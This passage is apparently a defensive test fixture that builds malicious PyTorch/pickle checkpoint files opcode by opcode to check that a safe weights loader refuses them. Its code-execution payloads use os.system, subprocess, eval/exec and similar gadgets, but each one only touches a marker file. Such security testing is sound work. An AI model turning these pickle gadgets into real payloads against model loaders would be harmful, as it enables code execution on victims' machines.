"""Build a corpus of malicious torch.save files in code, for the legacy-reader attack tests.

:func:`corpus` returns a few hundred :class:`Sample` objects covering every family of
section 3 of the security anchors (``reference/anchors-security.md``):

* P1-P10, pickle payloads: direct calls, every callable opcode, memo and STRING tricks,
  getattr chains, pivots through allowlisted modules, loaders that re-enter pickle, a
  sweep of ~45 stdlib/torch/numpy gadgets, and stream-layout tricks;
* T1-T6, torch-specific abuse of the allowlisted ``torch._utils._rebuild_*`` functions,
  persistent ids, the storage records, and the formats a weights loader must not run
  (TorchScript, the legacy tar format, stacked pickles, DCP ``.metadata``);
* Z1-Z8, attacks on the zip container (flags, CRCs, name and size lies, ZIP64, bombs,
  path traversal, symlinks, polyglots, compressed wrappers);
* D1-D4, pickle denial of service (huge lengths and memo indexes, deep nesting, billion
  laughs through the memo, streams without STOP).

Every pickle is assembled here opcode by opcode from a small expression tree
(:class:`Asm`), so one payload can be written in protocols 0, 2, 4 and 5, with GLOBAL or
STACK_GLOBAL, ``__builtin__`` or ``builtins``. Each code-executing payload, were it fed to
the real ``pickle.loads`` or ``torch.load(weights_only=False)``, would create a file named
after the sample inside ``marker_dir``: the tests assert that file never appears. Nothing
here unpickles anything; the zip and legacy containers are written byte by byte, in the
layout ``torch.save`` produces (stored entries, 64-byte aligned data, data descriptors,
ZIP64 end records), so that in the T and P samples the unpickler, not the container
checks, is what must refuse them.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import lzma
import marshal
import pickle
import shlex
import struct
import tarfile
import warnings
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

FAMILIES: tuple[str, ...] = (
    *(f"P{i}" for i in range(1, 11)),
    *(f"T{i}" for i in range(1, 7)),
    *(f"Z{i}" for i in range(1, 9)),
    *(f"D{i}" for i in range(1, 5)),
)

PICKLE = "pickle"
"""Sample.container: a bare pickle stream (possibly several, back to back)."""
TORCH_ZIP = "torch-zip"
"""Sample.container: a zip laid out as torch.save writes it."""
TORCH_LEGACY = "torch-legacy"
"""Sample.container: the pre-1.6 stacked-pickle format (magic, protocol, sys_info, ...)."""
OTHER = "other"
"""Sample.container: anything else (tar, TorchScript, compressed wrappers, polyglots)."""


@dataclass(frozen=True)
class Sample:
    """One malicious file.

    Attributes:
        name: unique, descriptive, usable as a file name; also the marker file's name.
        family: the corpus family, ``"P1"`` to ``"D4"``.
        data: the file's bytes.
        suffix: the file extension to save it under.
        container: :data:`PICKLE`, :data:`TORCH_ZIP`, :data:`TORCH_LEGACY` or :data:`OTHER`.
        globals: the refused globals spelled out literally in the stream (GLOBAL, INST or
            STACK_GLOBAL with string operands) that a scanner must report, as
            ``"module.name"`` exactly as written (``__builtin__`` is not renamed).
        global_only: the file is well formed and its only problem is a refused global.
        file_name: the name to save it under when it is not ``name + suffix``.
    """

    name: str
    family: str
    data: bytes
    suffix: str
    container: str = PICKLE
    globals: tuple[str, ...] = ()
    global_only: bool = False
    file_name: str | None = None

    @property
    def filename(self) -> str:
        return self.file_name if self.file_name is not None else self.name + self.suffix


# ================================================================== pickle opcodes

MARK = pickle.MARK
STOP = pickle.STOP
POP = pickle.POP
PROTO = pickle.PROTO
FRAME = pickle.FRAME
GLOBAL = pickle.GLOBAL
STACK_GLOBAL = pickle.STACK_GLOBAL
REDUCE = pickle.REDUCE
BUILD = pickle.BUILD
INST = pickle.INST
OBJ = pickle.OBJ
NEWOBJ = pickle.NEWOBJ
NEWOBJ_EX = pickle.NEWOBJ_EX
EXT1, EXT2, EXT4 = pickle.EXT1, pickle.EXT2, pickle.EXT4
PERSID, BINPERSID = pickle.PERSID, pickle.BINPERSID
TUPLE, EMPTY_TUPLE = pickle.TUPLE, pickle.EMPTY_TUPLE
TUPLE1, TUPLE2, TUPLE3 = pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3
LIST, EMPTY_LIST, APPEND, APPENDS = pickle.LIST, pickle.EMPTY_LIST, pickle.APPEND, pickle.APPENDS
DICT, EMPTY_DICT = pickle.DICT, pickle.EMPTY_DICT
SETITEM, SETITEMS = pickle.SETITEM, pickle.SETITEMS
PUT, BINPUT, LONG_BINPUT, MEMOIZE = pickle.PUT, pickle.BINPUT, pickle.LONG_BINPUT, pickle.MEMOIZE
GET, BINGET, LONG_BINGET = pickle.GET, pickle.BINGET, pickle.LONG_BINGET
NONE, NEWTRUE, NEWFALSE = pickle.NONE, pickle.NEWTRUE, pickle.NEWFALSE
INT, BININT, BININT1, BININT2 = pickle.INT, pickle.BININT, pickle.BININT1, pickle.BININT2
LONG, LONG1, LONG4 = pickle.LONG, pickle.LONG1, pickle.LONG4
FLOAT, BINFLOAT = pickle.FLOAT, pickle.BINFLOAT
STRING, BINSTRING, SHORT_BINSTRING = pickle.STRING, pickle.BINSTRING, pickle.SHORT_BINSTRING
UNICODE, BINUNICODE = pickle.UNICODE, pickle.BINUNICODE
SHORT_BINUNICODE, BINUNICODE8 = pickle.SHORT_BINUNICODE, pickle.BINUNICODE8
BINBYTES, SHORT_BINBYTES, BINBYTES8 = pickle.BINBYTES, pickle.SHORT_BINBYTES, pickle.BINBYTES8
BYTEARRAY8 = pickle.BYTEARRAY8

PROTOCOLS = (0, 2, 4, 5)
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
LEGACY_PROTOCOL = 1001

# Globals a weights loader may legitimately allow: everything else an Asm emits is
# recorded as a refused global that a scanner must report.
SAFE_GLOBALS = frozenset(
    {
        "collections.OrderedDict",
        "torch._utils._rebuild_tensor_v2",
        "torch._utils._rebuild_tensor",
        "torch._utils._rebuild_parameter",
        "torch._utils._rebuild_qtensor",
        "torch._utils._rebuild_sparse_tensor",
        "torch._utils._rebuild_from_type_v2",
        "torch._utils._rebuild_wrapper_subclass",
        "torch.FloatStorage",
        "torch.LongStorage",
        "torch.QUInt8Storage",
        "torch.Size",
        "torch.Tensor",
        "torch.float32",
        "torch.per_tensor_affine",
        "torch.per_channel_affine",
        "torch.serialization._get_layout",
        "torch.strided",
        "torch.nn.parameter.Parameter",
        "_codecs.encode",
        "collections.Counter",
        "torch.device",
        *(
            f"builtins.{name}"
            for name in [
                "bool",
                "bytearray",
                "bytes",
                "complex",
                "dict",
                "float",
                "frozenset",
                "int",
                "list",
                "range",
                "set",
                "slice",
                "str",
                "tuple",
            ]
        ),
    }
)


# ================================================================== expression tree


@dataclass(frozen=True)
class G:
    """A global: ``module.name``; ``name`` may be dotted (needs protocol >= 4 to resolve)."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """``func(*args)`` through REDUCE."""

    func: Any
    args: tuple[Any, ...] = ()


@dataclass(frozen=True)
class Build:
    """``obj`` then ``state`` then BUILD (``__setstate__`` or a ``__dict__`` update)."""

    obj: Any
    state: Any


@dataclass(frozen=True)
class Pid:
    """A persistent id: PERSID with a string in protocol 0, else the value and BINPERSID."""

    pid: Any


@dataclass(frozen=True)
class Inst:
    """``MARK args INST module\\nname\\n``: a call the INST opcode makes."""

    module: str
    name: str
    args: tuple[Any, ...] = ()


@dataclass(frozen=True)
class Obj:
    """``MARK cls args OBJ``: a call the OBJ opcode makes."""

    cls: Any
    args: tuple[Any, ...] = ()


@dataclass(frozen=True)
class NewObj:
    """``cls args NEWOBJ`` or, with kwargs, ``cls args kwargs NEWOBJ_EX``."""

    cls: Any
    args: tuple[Any, ...] = ()
    kwargs: dict[str, Any] | None = None


@dataclass(frozen=True)
class Seq:
    """Evaluate every item and keep only the last (POP the others)."""

    items: tuple[Any, ...]


@dataclass(frozen=True)
class Raw:
    """Opcode bytes spliced in verbatim; they should leave one value on the stack."""

    data: bytes


@dataclass(frozen=True)
class SetItem:
    """``target key value SETITEM``: aimed at whatever ``target`` is."""

    target: Any
    key: Any
    value: Any


@dataclass(frozen=True)
class SetItems:
    """``target MARK k v ... SETITEMS``."""

    target: Any
    pairs: tuple[tuple[Any, Any], ...]


@dataclass(frozen=True)
class Append:
    """``target value APPEND``."""

    target: Any
    value: Any


@dataclass(frozen=True)
class Appends:
    """``target MARK items APPENDS``."""

    target: Any
    items: tuple[Any, ...]


@dataclass(frozen=True)
class Ext:
    """An EXT1/EXT2/EXT4 extension-registry reference."""

    code: int


@dataclass
class Asm:
    """Assemble an expression tree into pickle bytes for one protocol.

    Args:
        proto: the protocol to write (PROTO is emitted from 2 on).
        stack_global: use STACK_GLOBAL (default from protocol 4) instead of GLOBAL.
        py2: spell ``builtins`` as ``__builtin__`` (only resolves below protocol 3).
        memo: memoize every global and call with ``"put"``, ``"binput"`` or ``"memoize"``.
        frame: wrap the body in one FRAME (protocol >= 4).
        sg_style: the string opcode for STACK_GLOBAL operands.
    """

    proto: int
    stack_global: bool | None = None
    py2: bool = False
    memo: str | None = None
    frame: bool = False
    sg_style: str | None = None
    emitted: list[str] = field(default_factory=list)
    _slot: int = 0

    def __post_init__(self) -> None:
        if self.stack_global is None:
            self.stack_global = self.proto >= 4
        if self.memo is None and self.proto >= 1:
            self.memo = "binput" if self.proto < 4 else "memoize"

    # ---------------------------------------------------------------- whole streams

    def dumps(self, node: Any, *, stop: bool = True) -> bytes:
        body = self.emit(node) + (STOP if stop else b"")
        if self.frame and self.proto >= 4:
            body = FRAME + struct.pack("<Q", len(body)) + body
        head = PROTO + bytes([self.proto]) if self.proto >= 2 else b""
        return head + body

    def dangerous(self) -> tuple[str, ...]:
        """The globals emitted so far that a weights loader must refuse, in order."""
        return tuple(dict.fromkeys(g for g in self.emitted if g not in SAFE_GLOBALS))

    # ---------------------------------------------------------------- scalars

    def string(self, s: str, style: str | None = None) -> bytes:
        raw = s.encode("utf-8", "surrogatepass")
        if style is None:
            if self.proto == 0:
                style = "unicode"
            elif self.proto >= 4 and len(raw) < 256:
                style = "short_binunicode"
            else:
                style = "binunicode"
        if style == "unicode":
            esc = (
                s.replace("\\", "\\u005c")
                .replace("\0", "\\u0000")
                .replace("\n", "\\u000a")
                .replace("\r", "\\u000d")
                .replace("\x1a", "\\u001a")
            )
            return UNICODE + esc.encode("raw-unicode-escape") + b"\n"
        if style == "binunicode":
            return BINUNICODE + struct.pack("<I", len(raw)) + raw
        if style == "short_binunicode":
            return SHORT_BINUNICODE + bytes([len(raw)]) + raw
        if style == "binunicode8":
            return BINUNICODE8 + struct.pack("<Q", len(raw)) + raw
        if style == "string":
            return STRING + repr(s).encode("ascii") + b"\n"
        if style == "binstring":
            return BINSTRING + struct.pack("<i", len(raw)) + raw
        if style == "short_binstring":
            return SHORT_BINSTRING + bytes([len(raw)]) + raw
        raise ValueError(f"unknown string style {style!r}")

    def integer(self, n: int) -> bytes:
        if self.proto == 0:
            return INT + str(n).encode("ascii") + b"\n"
        if 0 <= n < 256:
            return BININT1 + bytes([n])
        if 0 <= n < 65536:
            return BININT2 + struct.pack("<H", n)
        if -(2**31) <= n < 2**31:
            return BININT + struct.pack("<i", n)
        if self.proto < 2:
            return LONG + str(n).encode("ascii") + b"L\n"
        raw = encode_long(n)
        if len(raw) < 256:
            return LONG1 + bytes([len(raw)]) + raw
        return LONG4 + struct.pack("<i", len(raw)) + raw

    def raw_bytes(self, b: bytes) -> bytes:
        if self.proto >= 3:
            if len(b) < 256:
                return SHORT_BINBYTES + bytes([len(b)]) + b
            return BINBYTES + struct.pack("<I", len(b)) + b
        # What Python 3 writes for bytes below protocol 3.
        return self.emit(Call(G("_codecs", "encode"), (b.decode("latin-1"), "latin1")))

    # ---------------------------------------------------------------- memo

    def put(self, slot: int) -> bytes:
        if self.memo == "put" or self.proto == 0:
            return PUT + str(slot).encode("ascii") + b"\n"
        if self.memo == "memoize":
            return MEMOIZE
        if slot < 256:
            return BINPUT + bytes([slot])
        return LONG_BINPUT + struct.pack("<I", slot)

    def get(self, slot: int) -> bytes:
        if self.proto == 0:
            return GET + str(slot).encode("ascii") + b"\n"
        if slot < 256:
            return BINGET + bytes([slot])
        return LONG_BINGET + struct.pack("<I", slot)

    def _auto(self) -> bytes:
        if self.memo is None and self.proto > 0:
            return b""
        out = self.put(self._slot)
        self._slot += 1
        return out

    # ---------------------------------------------------------------- tree

    def module(self, module: str) -> str:
        return "__builtin__" if self.py2 and module == "builtins" else module

    def emit(self, node: Any) -> bytes:
        if node is None:
            return NONE
        if isinstance(node, bool):
            if self.proto >= 2:
                return NEWTRUE if node else NEWFALSE
            return INT + (b"01" if node else b"00") + b"\n"
        if isinstance(node, int):
            return self.integer(node)
        if isinstance(node, float):
            if self.proto == 0:
                return FLOAT + repr(node).encode("ascii") + b"\n"
            return BINFLOAT + struct.pack(">d", node)
        if isinstance(node, str):
            return self.string(node)
        if isinstance(node, bytes):
            return self.raw_bytes(node)
        if isinstance(node, tuple):
            return self.tuple(node)
        if isinstance(node, list):
            items = b"".join(self.emit(x) for x in node)
            if self.proto == 0:
                return MARK + items + LIST
            return EMPTY_LIST + (MARK + items + APPENDS if node else b"")
        if isinstance(node, dict):
            items = b"".join(self.emit(k) + self.emit(v) for k, v in node.items())
            if self.proto == 0:
                return MARK + items + DICT
            return EMPTY_DICT + (MARK + items + SETITEMS if node else b"")
        method: Callable[[Any], bytes] = getattr(self, "_" + type(node).__name__.lower())
        return method(node)

    def tuple(self, items: Sequence[Any]) -> bytes:
        body = b"".join(self.emit(x) for x in items)
        if self.proto >= 2 and 1 <= len(items) <= 3:
            return body + (TUPLE1, TUPLE2, TUPLE3)[len(items) - 1]
        if self.proto >= 1 and not items:
            return EMPTY_TUPLE
        return MARK + body + TUPLE

    def _g(self, node: G) -> bytes:
        module = self.module(node.module)
        self.emitted.append(f"{module}.{node.name}")
        if self.stack_global:
            out = self.string(module, self.sg_style) + self.string(node.name, self.sg_style)
            out += STACK_GLOBAL
        else:
            out = GLOBAL + f"{module}\n{node.name}\n".encode()
        return out + self._auto()

    def _call(self, node: Call) -> bytes:
        return self.emit(node.func) + self.tuple(node.args) + REDUCE + self._auto()

    def _build(self, node: Build) -> bytes:
        return self.emit(node.obj) + self.emit(node.state) + BUILD

    def _pid(self, node: Pid) -> bytes:
        if self.proto == 0 and isinstance(node.pid, str):
            return PERSID + node.pid.encode("ascii") + b"\n"
        return self.emit(node.pid) + BINPERSID

    def _inst(self, node: Inst) -> bytes:
        module = self.module(node.module)
        self.emitted.append(f"{module}.{node.name}")
        args = b"".join(self.emit(a) for a in node.args)
        return MARK + args + INST + f"{module}\n{node.name}\n".encode() + self._auto()

    def _obj(self, node: Obj) -> bytes:
        args = b"".join(self.emit(a) for a in node.args)
        return MARK + self.emit(node.cls) + args + OBJ + self._auto()

    def _newobj(self, node: NewObj) -> bytes:
        out = self.emit(node.cls) + self.tuple(node.args)
        if node.kwargs is None:
            return out + NEWOBJ + self._auto()
        return out + self.emit(node.kwargs) + NEWOBJ_EX + self._auto()

    def _seq(self, node: Seq) -> bytes:
        parts = [self.emit(x) for x in node.items]
        return POP.join(parts)

    def _raw(self, node: Raw) -> bytes:
        return node.data

    def _setitem(self, node: SetItem) -> bytes:
        return self.emit(node.target) + self.emit(node.key) + self.emit(node.value) + SETITEM

    def _setitems(self, node: SetItems) -> bytes:
        pairs = b"".join(self.emit(k) + self.emit(v) for k, v in node.pairs)
        return self.emit(node.target) + MARK + pairs + SETITEMS

    def _append(self, node: Append) -> bytes:
        return self.emit(node.target) + self.emit(node.value) + APPEND

    def _appends(self, node: Appends) -> bytes:
        items = b"".join(self.emit(x) for x in node.items)
        return self.emit(node.target) + MARK + items + APPENDS

    def _ext(self, node: Ext) -> bytes:
        if node.code < 256:
            return EXT1 + bytes([node.code])
        if node.code < 65536:
            return EXT2 + struct.pack("<H", node.code)
        return EXT4 + struct.pack("<i", node.code)


def encode_long(n: int) -> bytes:
    """Two's-complement little-endian bytes, as LONG1/LONG4 store them."""
    if n == 0:
        return b""
    length = (n.bit_length() >> 3) + 1
    raw = n.to_bytes(length, "little", signed=True)
    if n < 0 and length > 1 and raw[-1] == 0xFF and (raw[-2] & 0x80):
        raw = raw[:-1]
    return raw


def variants(protocols: Sequence[int] = PROTOCOLS) -> Iterator[tuple[str, Asm]]:
    """One assembler per protocol, named ``p0_g``, ``p2_g``, ``p4_sg``, ``p5_sg``."""
    for proto in protocols:
        asm = Asm(proto, frame=proto == 5)
        yield f"p{proto}_{'sg' if asm.stack_global else 'g'}", asm


# ================================================================== torch containers

FLOATS4 = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
SERIALIZATION_ID = "0" * 20 + "12345678901234567890"
ALIGN = 64


def rebuild_v2(
    key: str = "0",
    *,
    numel: int = 4,
    offset: Any = 0,
    size: Any = (4,),
    stride: Any = (1,),
    storage: str = "FloatStorage",
    legacy: bool = False,
) -> Call:
    """``torch._utils._rebuild_tensor_v2`` over a persistent-id storage, as torch writes it."""
    pid: tuple[Any, ...] = ("storage", G("torch", storage), key, "cpu", numel)
    if legacy:
        pid = (*pid, None)
    return Call(
        G("torch._utils", "_rebuild_tensor_v2"),
        (Pid(pid), offset, size, stride, False, Call(G("collections", "OrderedDict"))),
    )


def with_weight(payload: Any, *, legacy: bool = False) -> dict[str, Any]:
    """A plain state dict: one good tensor, then ``payload`` under ``"x"``."""
    return {"weight": rebuild_v2(legacy=legacy), "x": payload}


@dataclass(frozen=True)
class Entry:
    """One zip entry, with every field an attacker may lie about.

    ``stored`` is the byte string written after the local header (the compressed form);
    ``data`` is what the CRC and uncompressed size describe.
    """

    name: str
    data: bytes
    stored: bytes | None = None
    local_name: str | None = None
    flags: int = 0x0808
    local_flags: int | None = None
    method: int = 0
    crc: int | None = None
    size: int | None = None
    csize: int | None = None
    external_attr: int = 0
    made_by: int = 0
    central_extra: bytes = b""


def build_zip(
    entries: Sequence[Entry],
    *,
    prefix: bytes = b"",
    shift_offsets: bool = True,
    count: int | None = None,
    count64: int | None = None,
    cd_offset: int | None = None,
    cd_offset64: int | None = None,
    cd_size: int | None = None,
    locator_offset: int | None = None,
    comment: bytes = b"",
    trailer: bytes = b"",
    mangle_local: Callable[[int, bytes], bytes] | None = None,
) -> bytes:
    """Write a zip the way torch's PyTorchStreamWriter does, then apply the given lies.

    Local headers carry zero CRC and sizes with flag bit 3 set and a data descriptor after
    the data, and a ``FB`` extra field pads each entry's data to 64 bytes; the central
    directory is followed by a ZIP64 end record, its locator and the classic end record.
    """
    base = len(prefix) if shift_offsets else 0
    out = bytearray(prefix)
    central = bytearray()
    for index, e in enumerate(entries):
        stored = e.data if e.stored is None else e.stored
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        size = len(e.data) if e.size is None else e.size
        csize = len(stored) if e.csize is None else e.csize
        name = e.name.encode()
        local_name = name if e.local_name is None else e.local_name.encode()
        offset = len(out) - len(prefix) + base
        start = len(out) + 30 + len(local_name) + 4
        pad = -(start - len(prefix) + base) % ALIGN
        extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        lflags = e.flags if e.local_flags is None else e.local_flags
        # version, flags, method, time, date, then CRC and sizes left to the descriptor
        local = struct.pack(
            "<4sHHHHHIIIHH",
            b"PK\x03\x04",
            0,
            lflags,
            e.method,
            0,
            0,
            0,
            0,
            0,
            len(local_name),
            len(extra),
        )
        local += local_name + extra
        if mangle_local is not None:
            local = mangle_local(index, local)
        out += local + stored
        out += struct.pack(
            "<4sIII", b"PK\x07\x08", crc, min(csize, 0xFFFFFFFF), min(size, 0xFFFFFFFF)
        )
        # made by, needed, flags, method, time, date, crc, sizes, name/extra/comment
        # lengths, disk, internal and external attributes, local header offset
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            e.made_by,
            0,
            e.flags,
            e.method,
            0,
            0,
            crc,
            min(csize, 0xFFFFFFFF),
            min(size, 0xFFFFFFFF),
            len(name),
            len(e.central_extra),
            0,
            0,
            0,
            e.external_attr,
            min(offset, 0xFFFFFFFF),
        )
        central += name + e.central_extra
    cd_start = len(out) - len(prefix) + base
    out += central
    n = len(entries)
    size_cd = len(central) if cd_size is None else cd_size
    eocd64_at = len(out) - len(prefix) + base
    # ZIP64 end record: size, made by, needed, disks, counts, size and offset of the CD
    out += struct.pack(
        "<4sQHHIIQQQQ",
        b"PK\x06\x06",
        44,
        0x031E,
        0x2D,
        0,
        0,
        n if count64 is None else count64,
        n if count64 is None else count64,
        size_cd,
        cd_start if cd_offset64 is None else cd_offset64,
    )
    out += struct.pack(
        "<4sIQI",
        b"PK\x06\x07",
        0,
        eocd64_at if locator_offset is None else locator_offset,
        1,
    )
    n16 = n if count is None else count
    out += struct.pack(
        "<4sHHHHIIH",
        b"PK\x05\x06",
        0,
        0,
        n16,
        n16,
        size_cd,
        cd_start if cd_offset is None else cd_offset,
        len(comment),
    )
    out += comment + trailer
    return bytes(out)


def torch_entries(
    data_pkl: bytes,
    storages: dict[str, bytes] | None = None,
    *,
    prefix: str = "archive",
    pkl_name: str = "data.pkl",
) -> list[Entry]:
    """The records torch.save writes, in its order."""
    if storages is None:
        storages = {"0": FLOATS4}
    entries = [
        Entry(f"{prefix}/{pkl_name}", data_pkl),
        Entry(f"{prefix}/.format_version", b"1"),
        Entry(f"{prefix}/.storage_alignment", b"64"),
        Entry(f"{prefix}/byteorder", b"little"),
    ]
    entries += [Entry(f"{prefix}/data/{key}", raw) for key, raw in storages.items()]
    entries += [
        Entry(f"{prefix}/version", b"3\n"),
        Entry(f"{prefix}/.data/serialization_id", SERIALIZATION_ID.encode()),
    ]
    return entries


def torch_zip(
    data_pkl: bytes, storages: dict[str, bytes] | None = None, *, prefix: str = "archive"
) -> bytes:
    """A well-formed torch.save zip around ``data_pkl`` (protocol 2, as torch writes it)."""
    return build_zip(torch_entries(data_pkl, storages, prefix=prefix))


def legacy_file(
    main: bytes,
    storages: Sequence[tuple[str, int, bytes]] = (("0", 4, FLOATS4),),
    *,
    keys: bytes | None = None,
    magic: bytes | None = None,
    protocol: bytes | None = None,
    sys_info: bytes | None = None,
    tail: bytes = b"",
) -> bytes:
    """The pre-1.6 format: five pickles back to back, then each storage's numel and bytes."""
    if magic is None:
        magic = Asm(2).dumps(LEGACY_MAGIC)
    if protocol is None:
        protocol = Asm(2).dumps(LEGACY_PROTOCOL)
    if sys_info is None:
        sys_info = pickle.dumps(
            {
                "protocol_version": LEGACY_PROTOCOL,
                "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4},
            },
            protocol=2,
        )
    if keys is None:
        keys = Asm(2).dumps([key for key, _, _ in storages])
    raw = b"".join(struct.pack("<q", numel) + data for _, numel, data in storages)
    return magic + protocol + sys_info + main + keys + raw + tail


# ================================================================== payload helpers


@dataclass(frozen=True)
class Marker:
    """What a payload writes: ``path``, and the shell and Python code that create it."""

    path: str

    @property
    def sh(self) -> str:
        return "touch " + shlex.quote(self.path)

    @property
    def py(self) -> str:
        return f"open({self.path!r}, 'w').close()"


class Corpus:
    """Collects samples; every ``add_*`` method names the sample and its family."""

    def __init__(self, marker_dir: Path) -> None:
        self.marker_dir = marker_dir
        self.samples: list[Sample] = []

    def marker(self, name: str) -> Marker:
        return Marker(str(self.marker_dir / name))

    def add(self, sample: Sample) -> None:
        self.samples.append(sample)

    def add_pickle(
        self,
        family: str,
        name: str,
        build: Callable[[Marker], Any],
        asm: Asm,
        *,
        suffix: str = ".pkl",
        global_only: bool = True,
        stop: bool = True,
    ) -> None:
        """A bare pickle of ``build(marker)`` assembled by ``asm``."""
        data = asm.dumps(build(self.marker(name)), stop=stop)
        self.add(Sample(name, family, data, suffix, PICKLE, asm.dangerous(), global_only))

    def add_zip(
        self,
        family: str,
        name: str,
        build: Callable[[Marker], Any],
        *,
        suffix: str = ".pt",
        global_only: bool = True,
        proto: int = 2,
        storages: dict[str, bytes] | None = None,
    ) -> None:
        """A torch zip whose data.pkl is a state dict holding ``build(marker)``."""
        asm = Asm(proto)
        node = build(self.marker(name))
        pkl = asm.dumps(with_weight(node))
        # Record "0" belongs to the good tensor; attacks use keys from "1" on.
        data = torch_zip(pkl, {"0": FLOATS4, **(storages or {})})
        self.add(Sample(name, family, data, suffix, TORCH_ZIP, asm.dangerous(), global_only))

    def add_legacy(
        self,
        family: str,
        name: str,
        build: Callable[[Marker], Any],
        *,
        suffix: str = ".pth",
        global_only: bool = True,
    ) -> None:
        """A legacy stacked-pickle file whose main pickle holds ``build(marker)``."""
        asm = Asm(2)
        node = build(self.marker(name))
        main = asm.dumps(with_weight(node, legacy=True))
        data = legacy_file(main)
        self.add(Sample(name, family, data, suffix, TORCH_LEGACY, asm.dangerous(), global_only))


def const(node: Any) -> Callable[[Marker], Any]:
    """A payload builder for a node that does not depend on the marker."""
    return lambda m: node


def builtin(name: str) -> G:
    return G("builtins", name)


def import_(module: str) -> Call:
    return Call(builtin("__import__"), (module,))


def getattr_(obj: Any, name: str) -> Call:
    return Call(builtin("getattr"), (obj, name))


def code_object(source: str) -> bytes:
    """A marshalled code object for this interpreter."""
    return marshal.dumps(compile(source, "<payload>", "exec"))


def inner_pickle(m: Marker, *, proto: int = 4) -> bytes:
    """A small pickle that runs ``os.system`` (what the loaders re-enter)."""
    return Asm(proto).dumps(Call(G("os", "system"), (m.sh,)))


# ================================================================== P1-P2: direct calls


def p1_payloads() -> dict[str, Callable[[Marker], Any]]:
    return {
        "os_system": lambda m: Call(G("os", "system"), (m.sh,)),
        "posix_system": lambda m: Call(G("posix", "system"), (m.sh,)),
        "nt_system": lambda m: Call(G("nt", "system"), (m.sh,)),
        "os_popen": lambda m: Call(G("os", "popen"), (m.sh,)),
        "os_spawnv": lambda m: Call(G("os", "spawnv"), (0, "/usr/bin/touch", ["touch", m.path])),
        "os_posix_spawnp": lambda m: Call(
            G("os", "posix_spawnp"), ("touch", ["touch", m.path], {})
        ),
        "subprocess_popen": lambda m: Call(G("subprocess", "Popen"), (["touch", m.path],)),
        "subprocess_run": lambda m: Call(G("subprocess", "run"), (["touch", m.path],)),
        "subprocess_call": lambda m: Call(G("subprocess", "call"), (["touch", m.path],)),
        "subprocess_check_output": lambda m: Call(
            G("subprocess", "check_output"), (["touch", m.path],)
        ),
        "subprocess_getoutput": lambda m: Call(G("subprocess", "getoutput"), (m.sh,)),
        "pty_spawn": lambda m: Call(G("pty", "spawn"), (["touch", m.path],)),
    }


def add_p1(c: Corpus) -> None:
    for label, build in p1_payloads().items():
        for tag, asm in variants():
            c.add_pickle("P1", f"p1_{label}_{tag}", build, asm)
    c.add_pickle("P1", "p1_os_system_p4_g", p1_payloads()["os_system"], Asm(4, stack_global=False))
    c.add_pickle(
        "P1", "p1_os_system_p2_put", p1_payloads()["os_system"], Asm(2, memo="put"), suffix=".pt"
    )
    for label in ("os_system", "subprocess_run", "posix_system"):
        c.add_zip("P1", f"p1_{label}_zip", p1_payloads()[label])
        c.add_legacy("P1", f"p1_{label}_legacy", p1_payloads()[label])
    c.add_zip("P1", "p1_os_system_zip_ckpt", p1_payloads()["os_system"], suffix=".ckpt")
    c.add_zip("P1", "p1_os_system_zip_bin", p1_payloads()["os_system"], suffix=".bin")


def p2_payloads() -> dict[str, Callable[[Marker], Any]]:
    return {
        "eval": lambda m: Call(builtin("eval"), (m.py,)),
        "exec": lambda m: Call(builtin("exec"), (m.py,)),
        "compile_exec": lambda m: Call(
            builtin("exec"), (Call(builtin("compile"), (m.py, "<x>", "exec")),)
        ),
        "import_system": lambda m: Call(getattr_(import_("os"), "system"), (m.sh,)),
        "open": lambda m: Call(builtin("open"), (m.path, "w")),
        # breakpoint() calls sys.breakpointhook, which imports whatever PYTHONBREAKPOINT
        # names and calls it with breakpoint's arguments.
        "breakpoint": lambda m: Seq(
            (
                Call(G("os", "putenv"), ("PYTHONBREAKPOINT", "os.system")),
                Call(builtin("breakpoint"), (m.sh,)),
            )
        ),
        # "Sour Pickles" (picklescan malicious0.pkl): globals() + compile() + eval().
        "sour_globals_compile_eval": lambda m: Call(
            builtin("eval"),
            (Call(builtin("compile"), (m.py, "", "exec")), Call(builtin("globals"))),
        ),
    }


def add_p2(c: Corpus) -> None:
    for label, build in p2_payloads().items():
        for proto in PROTOCOLS:
            py2 = proto < 3
            asm = Asm(proto, py2=py2, frame=proto == 5)
            spelled = "builtin" if py2 else "builtins"
            tag = f"p{proto}_{spelled}_{'sg' if asm.stack_global else 'g'}"
            c.add_pickle("P2", f"p2_{label}_{tag}", build, asm)
    for label in ("eval", "exec", "import_system"):
        c.add_pickle("P2", f"p2_{label}_p2_builtins_g", p2_payloads()[label], Asm(2))
        c.add_zip("P2", f"p2_{label}_zip", p2_payloads()[label])
    c.add_legacy("P2", "p2_exec_legacy", p2_payloads()["exec"])


# ================================================================== P3: callable opcodes


def add_p3(c: Corpus) -> None:
    system = G("os", "system")

    def every(name: str, build: Callable[[Marker], Any], asm: Asm, **kw: Any) -> None:
        c.add_pickle("P3", f"p3_{name}", build, asm, **kw)

    every("global_reduce_p0", lambda m: Call(system, (m.sh,)), Asm(0))
    every("stack_global_reduce_p4", lambda m: Call(system, (m.sh,)), Asm(4))
    every("inst_p0", lambda m: Inst("os", "system", (m.sh,)), Asm(0))
    every("inst_p2", lambda m: Inst("os", "system", (m.sh,)), Asm(2))
    every("inst_subprocess_p0", lambda m: Inst("subprocess", "getoutput", (m.sh,)), Asm(0))
    every("obj_p1", lambda m: Obj(system, (m.sh,)), Asm(1))
    every("obj_p2_sg", lambda m: Obj(system, (m.sh,)), Asm(4))
    # NEWOBJ(map, (os.system, [cmd])) makes a lazy map; list() drains it.
    every(
        "newobj_map_drained_p2",
        lambda m: Call(builtin("list"), (NewObj(builtin("map"), (system, [m.sh])),)),
        Asm(2),
    )
    every(
        "newobj_ex_map_drained_p4",
        lambda m: Call(builtin("list"), (NewObj(builtin("map"), (system, [m.sh]), {}),)),
        Asm(4),
    )
    every(
        "newobj_ex_map_drained_p5",
